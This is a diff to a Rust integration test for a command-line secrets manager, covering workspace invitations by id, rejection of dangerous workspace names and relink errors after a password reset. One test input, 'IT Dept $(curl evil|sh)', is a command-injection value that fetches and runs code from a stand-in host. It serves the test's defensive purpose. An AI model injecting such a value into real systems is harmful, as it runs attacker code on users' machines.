@@ -72,10 +72,19 @@ fn members_story(db: Db) {
         "{out}"
     );
     let invitation = mail(&server, "bob@example.com", "invited you");
+    // The command in the mail names the workspace by id, never by its (user-chosen) name.
+    let show = ok(&alice, &["workspace", "show", "--json"]);
+    let acme_id = serde_json::from_str::<serde_json::Value>(&show).unwrap()["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
     assert!(
-        invitation.contains("keyhaven member accept \"Acme\""),
+        invitation.contains(&format!("keyhaven member accept {acme_id}\r\n")),
         "{invitation}"
     );
+    // A name that would do something inside a shell command is refused.
+    let err = refused(&alice, &["workspace", "create", "IT Dept $(curl evil|sh)"]);
+    assert!(err.contains("cannot contain"), "{err}");
     let out = ok(&alice, &["member", "list"]);
     assert!(
         out.contains("Invitations (from the server, not verified):"),
@@ -84,7 +93,7 @@ fn members_story(db: Db) {
     assert!(out.contains("waiting for them to accept"), "{out}");
     refused(&bob, &["secret", "list", "--workspace", "Acme"]);
 
-    let out = ok(&bob, &["member", "accept", "Acme"]);
+    let out = ok(&bob, &["member", "accept", &acme_id]);
     assert_eq!(fingerprints(&out), vec![bob_fingerprint.clone()], "{out}");
     assert!(
         mail(&server, "alice@example.com", "accepted your invitation")
@@ -185,8 +194,13 @@ fn members_story(db: Db) {
     );
     let dave_new = reset_password(&server, &dave, "dave@example.com");
     assert_ne!(dave_new, dave_old);
+    // The server refuses the membership until then (issue 8, item 2), and says what to do.
     let err = refused(&dave, &["secret", "get", "payroll"]);
-    assert!(err.contains("ask an owner to relink them"), "{err}");
+    assert!(
+        err.contains("no authority until it is relinked")
+            && err.contains("members ask an owner or admin to run `keyhaven member relink`"),
+        "{err}"
+    );
     let out = ok(&alice, &["member", "list"]);
     assert!(
         out.contains("needs a relink after a password reset"),
